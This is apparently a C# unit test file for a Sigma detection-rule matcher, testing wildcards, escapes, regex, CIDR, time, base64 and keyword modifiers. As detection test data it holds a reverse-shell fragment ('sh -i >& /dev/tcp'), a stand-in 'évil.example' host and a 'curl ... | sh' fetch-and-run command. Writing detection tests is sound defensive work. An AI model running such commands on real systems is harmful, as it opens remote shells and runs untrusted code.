using System.Text;

namespace IncidentKit.Tests.Trail.Sigma.Matching;

public sealed class ModifierTests
{
    [Theory]
    [InlineData("f|startswith: 'ab'", "ABc", true)]
    [InlineData("f|startswith: 'bc'", "abc", false)]
    [InlineData("f|endswith: 'bc'", "abC", true)]
    [InlineData("f|endswith: 'ab'", "abc", false)]
    [InlineData("f|contains: 'b'", "aBc", true)]
    [InlineData("f|contains: ['x', 'y', 'B']", "abc", true)]
    [InlineData("f|contains|all: ['a', 'x']", "abc", false)]
    [InlineData("f: 'a*c'", "abbbc", true)]
    [InlineData("f: 'a*c'", "abbbcd", false)]
    [InlineData("f: 'a?c'", "abc", true)]
    [InlineData("f: 'a?c'", "ac", false)]
    [InlineData("f: '*a*b*c*'", "xxaxxbxxcxx", true)]
    [InlineData("f: '*a*b*c*'", "xxbxxaxxcxx", false)]
    [InlineData("f: 'a*a'", "a", false)]
    [InlineData("f: 'ab*ba'", "aba", false)]
    [InlineData("f: '?*?'", "ab", true)]
    [InlineData("f: '?*?'", "a", false)]
    [InlineData("f: 'a*b?d'", "aXbYbZd", true)]
    [InlineData("f|startswith: 'a?c'", "aXcd", true)]
    [InlineData("f: ''", "", true)]
    [InlineData("f: ''", "x", false)]
    public void Text_and_wildcards(string item, string value, bool matches) => Check(item, value, matches);

    [Theory]
    [InlineData(@"f: 'a\*c'", "a*c", true)]
    [InlineData(@"f: 'a\*c'", "abc", false)]
    [InlineData(@"f: 'a\?c'", "a?c", true)]
    [InlineData(@"f: 'C:\Windows'", @"C:\Windows", true)]
    [InlineData(@"f: 'C:\\Windows'", @"C:\Windows", true)]
    [InlineData(@"f: 'a\\*'", @"a\anything", true)]
    [InlineData(@"f: 'a\\*'", "a*", false)]
    [InlineData(@"f: 'a\\\*'", @"a\*", true)]
    [InlineData(@"f: 'a\\\\b'", @"a\\b", true)]
    [InlineData(@"f: 'a\\\b'", @"a\\b", true)]
    [InlineData(@"f: 'a\'", @"a\", true)]
    [InlineData(@"f|contains: '100\%'", @"100\%", true)]
    public void A_backslash_escapes_wildcards_and_itself(string item, string value, bool matches) => Check(item, value, matches);

    [Theory]
    [InlineData("f|re: '^a.+c$'", "abbc", true)]
    [InlineData("f|re: 'b+'", "abbc", true)]
    [InlineData("f|re: 'B'", "abc", false)]
    [InlineData("f|re|i: 'B'", "abc", true)]
    [InlineData("f|re: '^b'", "a\nb", false)]
    [InlineData("f|re|m: '^b'", "a\nb", true)]
    [InlineData("f|re: 'a.b'", "a\nb", false)]
    [InlineData("f|re|s: 'a.b'", "a\nb", true)]
    [InlineData("f|re|i|m|s: '^B.C$'", "a\nb\nc", true)]
    [InlineData("f|re: '(?i)ABC'", "xabcx", true)]
    [InlineData("f|re|startswith: 'b|a'", "abc", true)]
    [InlineData("f|re|startswith: 'b|c'", "abc", false)]
    [InlineData("f|re|endswith: 'b|c'", "abc", true)]
    [InlineData("f|re|endswith: 'b|a'", "abc", false)]
    [InlineData(@"f|re: 'a\*c'", "a*c", true)]
    [InlineData("f|re: ['x', 'b']", "abc", true)]
    public void Regular_expressions_are_searched_for(string item, string value, bool matches) => Check(item, value, matches);

    [Theory]
    [InlineData("f|cidr: '10.0.0.0/8'", "10.200.3.4", true)]
    [InlineData("f|cidr: '10.0.0.0/8'", "11.0.0.1", false)]
    [InlineData("f|cidr: '10.0.0.77/8'", "10.200.3.4", true)]
    [InlineData("f|cidr: ['192.0.2.0/24', '198.51.100.0/24']", "198.51.100.9", true)]
    [InlineData("f|cidr: '192.0.2.1'", "192.0.2.1", true)]
    [InlineData("f|cidr: '0.0.0.0/0'", "203.0.113.9", true)]
    [InlineData("f|cidr: '0.0.0.0/0'", "2001:db8::1", false)]
    [InlineData("f|cidr: '2001:db8::/32'", "2001:DB8:1::9", true)]
    [InlineData("f|cidr: '::/0'", "2001:db8::1", true)]
    [InlineData("f|cidr: '2001:db8::/32'", "2001:db9::1", false)]
    [InlineData("f|cidr: '10.0.0.0/8'", "::ffff:10.1.2.3", true)]
    [InlineData("f|cidr: '10.0.0.0/8'", "203.0.113.9, 10.1.2.3", true)]
    [InlineData("f|cidr: '75.50.0.0/16'", "075.050.255.67", true)]
    [InlineData("f|cidr: '10.0.0.0/8'", "AWS Internal", false)]
    [InlineData("f|cidr: '10.0.0.0/8'", "10.0.0", false)]
    [InlineData("f|cidr: '10.0.0.0/8'", "10.0.0.1.2", false)]
    [InlineData("f|cidr: '10.0.0.0/8'", "10.0.0.256", false)]
    [InlineData("f|cidr: '10.0.0.0/8'", "ec2.amazonaws.com", false)]
    public void Networks_hold_addresses(string item, string value, bool matches) => Check(item, value, matches);

    [Theory]
    [InlineData("f|gt: 5", "6", true)]
    [InlineData("f|gt: 5", "5", false)]
    [InlineData("f|gte: 5", "5.0", true)]
    [InlineData("f|lt: 5", "-1e3", true)]
    [InlineData("f|lte: 5", "5.5", false)]
    [InlineData("f|lt: 5", "four", false)]
    [InlineData("f|gt: -1.5", "0", true)]
    public void Numbers_are_compared_also_where_they_are_text(string item, string value, bool matches) => Check(item, value, matches);

    [Theory]
    [InlineData("f|minute: 34", true)]
    [InlineData("f|hour: 23", true)]
    [InlineData("f|hour|gte: 22", true)]
    [InlineData("f|hour|lt: 22", false)]
    [InlineData("f|day: 31", true)]
    [InlineData("f|week: 1", true)]
    [InlineData("f|month: [11, 12]", true)]
    [InlineData("f|year: 2025", false)]
    public void Parts_of_a_time(string item, bool matches) => Check(item, "2024-12-31T23:34:56Z", matches);

    [Theory]
    [InlineData("f|exists: true", """{"f":1}""", true)]
    [InlineData("f|exists: true", """{"f":null}""", true)]
    [InlineData("f|exists: true", """{"f":[]}""", true)]
    [InlineData("f|exists: true", "{}", false)]
    [InlineData("f|exists: false", "{}", true)]
    [InlineData("f.g|exists: false", """{"f":{"h":1}}""", true)]
    [InlineData("f.g|exists: true", """{"f":[{"h":1},{"g":null}]}""", true)]
    public void Existence_is_asked_of_the_field_and_not_of_its_value(string item, string record, bool matches) => Assert.Equal(matches, SigmaSamples.Matches(Selection(item), record));

    [Theory]
    [InlineData("f|neq: a", """{"f":"b"}""", true)]
    [InlineData("f|neq: a", """{"f":"A"}""", false)]
    [InlineData("f|neq: a", "{}", true)]
    [InlineData("f|neq: [a, b]", """{"f":"b"}""", false)]
    [InlineData("f|contains|neq: a", """{"f":"xax"}""", false)]
    [InlineData("f|neq: null", """{"f":1}""", true)]
    [InlineData("f|neq: null", """{"f":null}""", false)]
    [InlineData("f|fieldref|neq: g", """{"f":1,"g":1}""", false)]
    public void Difference_is_of_the_whole_item(string item, string record, bool matches) => Assert.Equal(matches, SigmaSamples.Matches(Selection(item), record));

    [Theory]
    [InlineData("f|fieldref: g", true, "user/eve", "user/eve")]
    [InlineData("f|fieldref|endswith: g", true, "arn:aws:iam::1:user/eve", "EVE")]
    [InlineData("f|fieldref|endswith: g", false, "arn:aws:iam::1:user/eve2", "eve")]
    [InlineData("f|fieldref|startswith: g", true, "eve@example.com", "eve")]
    [InlineData("f|fieldref|contains: g", true, "user/eve/key", "eve")]
    [InlineData("f|fieldref|cased: g", false, "eve", "EVE")]
    public void Field_references_take_the_place_of_text(string item, bool matches, string f, string g) => Assert.Equal(matches, SigmaSamples.Matches(Selection(item), $$"""{"f":"{{f}}","g":"{{g}}"}"""));

    [Fact]
    public void Encodings_are_those_of_the_bytes()
    {
        var base64 = Convert.ToBase64String(Encoding.UTF8.GetBytes("sh -i >& /dev/tcp"));
        Check("f|base64: 'sh -i >& /dev/tcp'", base64, true);
        Check("f|base64|contains: 'sh -i >& '", base64, true);
        Check("f|base64: 'other'", base64, false);
        Check("f|wide|base64: 'cmd'", Convert.ToBase64String(Encoding.Unicode.GetBytes("cmd")), true);
        Check("f|utf16le|base64: 'cmd'", Convert.ToBase64String(Encoding.Unicode.GetBytes("cmd")), true);
        Check("f|utf16be|base64: 'cmdé'", Convert.ToBase64String(Encoding.BigEndianUnicode.GetBytes("cmdé")), true);
        Check("f|utf16|base64: 'cmd'", Convert.ToBase64String([0xff, 0xfe, .. Encoding.Unicode.GetBytes("cmd")]), true);
    }

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(3)]
    [InlineData(17)]
    public void An_encoded_text_is_found_at_any_offset(int offset)
    {
        var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes(new string('x', offset) + "http://évil.example" + new string('y', offset)));
        Check("f|base64offset|contains: 'http://évil.example'", encoded, true);
        Check("f|base64offset|contains: 'http://good.example'", encoded, false);
    }

    [Theory]
    [InlineData("cmd -exec bypass-it", true)]
    [InlineData("cmd /exec bypass-it", true)]
    [InlineData("cmd —EXEC bypass-it", true)]
    [InlineData("cmd +exec bypass-it", false)]
    [InlineData("cmd -exec bypass/it", false)]
    public void Windows_takes_many_dashes(string value, bool matches) => Check("f|windash|contains: ' -exec bypass-it'", value, matches);

    [Fact]
    public void Placeholders_take_the_values_of_the_host()
    {
        var lists = new Dictionary<string, IReadOnlyList<string>> { ["admins"] = ["alice", "ops-*"], ["nets"] = ["192.0.2.0/24"] };
        var rules = SigmaSamples.Rules(lists, """
            title: Not an administrator
            logsource: { product: aws, service: cloudtrail }
            detection:
                selection:
                    eventName: ConsoleLogin
                filter_user:
                    userIdentity.userName|expand: '%admins%'
                filter_net:
                    sourceIPAddress|cidr|expand: '%nets%'
                filter_text:
                    userAgent|expand: '\%admins% of %admins%'
                condition: selection and not 1 of filter_*
            """);

        Assert.Empty(rules.Errors);
        Assert.Equal([false, false, false, false, true],
            new[] { ("alice", "x", ""), ("OPS-7", "x", ""), ("eve", "192.0.2.7", ""), ("eve", "x", "%admins% of alice"), ("eve", "203.0.113.7", "alice") }.Select(who =>
                SigmaSamples.Hunt(rules, $$"""{"eventName":"ConsoleLogin","userIdentity":{"userName":"{{who.Item1}}"},"sourceIPAddress":"{{who.Item2}}","userAgent":"{{who.Item3}}"}""").Hits.Count > 0));
    }

    [Fact]
    public void Keywords_take_modifiers_too()
    {
        const string record = """{"requestParameters":{"command":"curl http://203.0.113.9/x | sh"}}""";
        Assert.True(SigmaSamples.Matches("keywords:\n    '|all':\n        - 'curl'\n        - 'http://203.0.113.9'\ncondition: keywords", record));
        Assert.False(SigmaSamples.Matches("keywords:\n    '|all':\n        - 'curl'\n        - 'wget'\ncondition: keywords", record));
        Assert.True(SigmaSamples.Matches("keywords:\n    '|re': 'curl http://[0-9.]+/'\ncondition: keywords", record));
        Assert.True(SigmaSamples.Matches("keywords: 'c?rl*sh'\ncondition: keywords", record));
    }

    private static void Check(string item, string value, bool matches) =>
        Assert.Equal(matches, SigmaSamples.Matches(Selection(item), $$"""{"f":"{{System.Text.Json.JsonEncodedText.Encode(value)}}"}"""));

    private static string Selection(string items) => $"selection:\n    {items}\ncondition: selection";
}
